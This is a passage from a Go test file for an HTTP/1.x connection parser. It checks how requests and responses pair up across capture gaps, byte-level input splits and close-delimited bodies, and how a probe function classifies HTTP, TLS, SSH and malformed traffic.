			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0 partial`,
			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "request lost between messages",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\n"), resp(okBody),
			{side: 0, gap: 22}, // GET /lost HTTP/1.1 CRLF CRLF
			req("GET /b HTTP/1.1\r\n\r\n"),
			resp("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n" + okBody),
		},
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "response lost between messages",
		script: []ev{
			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"), resp(okBody),
			{side: 1, gap: 43},
			req("GET /c HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{
			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
			`c0 GET "/b" HTTP/1.1 req=0 partial -> none`,
			`c0 GET "/c" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		},
	},
	{
		name: "gap at the start of a side marks its first message",
		script: []ev{
			{side: 1, gap: 10},
			req("GET /a HTTP/1.1\r\n\r\n"), resp(okBody),
		},
		want: []string{`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5 partial`},
	},
	{
		name: "gap in close-delimited body",
		script: []ev{
			req("GET / HTTP/1.0\r\n\r\n"),
			resp("HTTP/1.0 200 OK\r\n\r\nabc"), {side: 1, gap: 1000}, resp("def"), {side: 1, close: true},
		},
		want: []string{`c0 GET "/" HTTP/1.0 req=0 -> 200 HTTP/1.0 resp=1006 partial`},
	},
}

func TestConn(t *testing.T) {
	for _, tt := range connTests {
		t.Run(tt.name, func(t *testing.T) {
			got := play(tt.cfg, tt.script, -1, 0, 0)
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Fatalf("transactions:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

// TestConnSplit feeds every case cut at every byte offset of every data event, and in
// chunks of 1 to 7 bytes: the transactions, headers included, must be the same.
func TestConnSplit(t *testing.T) {
	for _, tt := range connTests {
		t.Run(tt.name, func(t *testing.T) {
			whole := playFull(tt.cfg, tt.script, -1, 0, 0)
			for i, e := range tt.script {
				for at := 1; at < len(e.data); at++ {
					if got := playFull(tt.cfg, tt.script, i, at, 0); got != whole {
						t.Fatalf("event %d split at %d:\n%s\nwhole:\n%s", i, at, got, whole)
					}
				}
			}
			for chunk := 1; chunk <= 7; chunk++ {
				if got := playFull(tt.cfg, tt.script, -1, 0, chunk); got != whole {
					t.Fatalf("chunks of %d:\n%s\nwhole:\n%s", chunk, got, whole)
				}
			}
		})
	}
}

func playFull(cfg *Config, script []ev, splitEv, splitAt, chunk int) string {
	out := playWith(cfg, script, splitEv, splitAt, chunk, full)
	return strings.Join(out, "\n")
}

// A response that begins before its request did answers an unseen request.
func TestConnCausalPairing(t *testing.T) {
	c, out := collect(nil)
	c.Feed(1, []byte(okBody), t0)                                     // answers a request sent before capture
	c.Feed(0, []byte("GET /a HTTP/1.1\r\n\r\n"), t0.Add(time.Second)) // fed late, sent later
	c.Feed(1, []byte("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"), t0.Add(2*time.Second))
	c.End(t0.Add(3 * time.Second))
	if len(*out) != 1 || (*out)[0].Resp == nil || (*out)[0].Resp.BodyBytes != 1 {
		t.Fatalf("got %v; want /a paired with the second response", *out)
	}

	// Data and gaps of the two sides are not reported in capture order: a response seen
	// while no request waited is the answer to a request whose loss is reported later.
	c, out = collect(nil)
	c.Feed(0, []byte("GET /a HTTP/1.1\r\n\r\n"), t0)
	c.Feed(1, []byte(okBody), t0)
	c.Feed(1, []byte("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"), t0) // for the lost request
	c.Gap(0, 22, t0)
	c.Feed(0, []byte("GET /b HTTP/1.1\r\n\r\n"), t0)
	c.Feed(1, []byte(okBody), t0)
	c.End(t0)
	var got []string
	for _, tx := range *out {
		got = append(got, describe(tx))
	}
	want := []string{
		`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
		`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestProbeVerdict(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want int
	}{
		{"GET / HTTP/1.1\r\n", probeHTTP},
		{"POST ", probeHTTP},
		{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", probeHTTP},
		{"G", probeMore},
		{"\r\n", probeMore},
		{"\nGET / HTTP/1.1\r\n", probeHTTP},
		{"\r\nG", probeMore},
		{strings.Repeat("\r\n", 12), probeTunnel},
		{"PROPFI", probeMore},
		{"PRI * HT", probeMore},
		{"\x16\x03\x01\x02\x00", probeTunnel},
		{"SSH-2.0-OpenSSH_9.6\r\n", probeTunnel},
		{"GETX / HTTP/1.1\r\n", probeTunnel},
		{"GET\t/ HTTP/1.1\r\n", probeTunnel},
		{"get / HTTP/1.1\r\n", probeTunnel},
	} {
		if got := probeVerdict([]byte(tc.in)); got != tc.want {
			t.Errorf("probeVerdict(%q) = %d; want %d", tc.in, got, tc.want)
		}
	}
}
